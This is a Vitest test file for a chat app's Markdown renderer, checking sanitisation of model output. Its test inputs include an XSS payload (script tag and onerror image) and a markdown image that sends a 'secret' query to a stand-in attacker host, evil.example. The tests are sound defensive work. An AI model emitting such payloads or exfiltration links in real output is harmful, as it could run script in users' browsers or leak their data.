import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { Markdown } from "@/components/chat/markdown";
import { ImageSourcesProvider } from "@/components/image-sources";

describe("Markdown", () => {
  it("renders fenced code with highlight.js classes", () => {
    const html = renderToStaticMarkup(<Markdown text={"Try this:\n\n```python\ndef add(a, b):\n    return a + b\n```"} />);
    expect(html).toContain('class="hljs language-python"');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toContain("<p>Try this:</p>");
  });

  it("renders GitHub tables and never raw HTML from the model", () => {
    const html = renderToStaticMarkup(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n<script>alert(1)</script><img src=x onerror=alert(1)>"} />);
    expect(html).toContain("<table>");
    expect(html).not.toContain("<script>");
    expect(html).not.toContain("<img");
  });

  it("opens links in a new tab without handing over the opener", () => {
    const html = renderToStaticMarkup(<Markdown text="[docs](https://example.com)" />);
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noreferrer noopener"');
  });

  it("shows a remote image as a link naming its host, never as an image", () => {
    const html = renderToStaticMarkup(<Markdown text="See ![chart](https://evil.example/leak.png?q=secret) here" />);
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://evil.example/leak.png?q=secret"');
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain("Image: chart (evil.example)");
  });

  it("keeps same-origin and data: images as images", () => {
    const html = renderToStaticMarkup(<Markdown text={"![logo](/icon.svg) ![dot](data:image/png;base64,iVBORw0KGgo=)"} />);
    expect(html).toContain('<img src="/icon.svg" alt="logo"/>');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"/>');
  });

  it("shows images from the configured hosts as images", () => {
    const html = renderToStaticMarkup(
      <ImageSourcesProvider sources={["https://img.example.com"]}>
        <Markdown text={"![a](https://img.example.com/a.png) ![b](https://evil.example/b.png)"} />
      </ImageSourcesProvider>,
    );
    expect(html).toContain('<img src="https://img.example.com/a.png" alt="a"/>');
    expect(html).toContain("Image: b (evil.example)");
  });
});
